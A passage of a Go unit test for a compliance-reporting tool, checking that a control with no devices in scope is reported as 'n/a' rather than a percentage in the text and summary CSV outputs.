			{ControlID: "C-NONE", Status: store.NotApplicable, Reason: "no such hardware", EvidenceSeq: 1}} {
			s.Evidence = json.RawMessage(`{}`)
			if err := states.Record(t.Context(), st, id, []store.ControlState{s}, nil, feb1); err != nil {
				t.Fatal(err)
			}
		}
	}
	p := &controls.Policy{Name: "test-pack", Controls: []controls.Control{{ID: "C-ENC", Title: "Disk encryption", Criteria: []string{"CC6.1"}},
		{ID: "C-NONE", Title: "Nobody in scope", Criteria: []string{"CC6.1"}}}}
	r, err := period.Build(t.Context(), st, p, period.Options{From: from, To: to, Now: now, Seed: 42})
	if err != nil {
		t.Fatal(err)
	}
	c := r.Controls[1]
	if c.ID != "C-NONE" || c.Population != 0 || c.InScope() || !r.Controls[0].InScope() {
		t.Fatalf("C-NONE = %+v, want no device in scope", c)
	}
	row := func(out []byte, prefix string) string {
		for _, l := range strings.Split(string(out), "\n") {
			if strings.HasPrefix(l, prefix) {
				return l
			}
		}
		t.Fatalf("no line starting %q in\n%s", prefix, out)
		return ""
	}
	text := row(write(t, period.WriteText, r), "C-NONE ")
	if f := strings.Fields(text); len(f) < 5 || f[3] != "n/a" || f[4] != "n/a" {
		t.Errorf("text row %q: want n/a for both percentages", text)
	}
	if strings.Contains(text, "%") {
		t.Errorf("text row %q shows a percentage", text)
	}
	if enc := row(write(t, period.WriteText, r), "C-ENC "); !strings.Contains(enc, "100.00%") {
		t.Errorf("text row %q: the in-scope control lost its percentage", enc)
	}
	sum := row(write(t, period.WriteSummaryCSV, r), "C-NONE,")
	if !strings.Contains(sum, ",n/a,") || strings.Contains(sum, ",0.00,") {
		t.Errorf("summary CSV row %q: want n/a for the percentages", sum)
	}
}
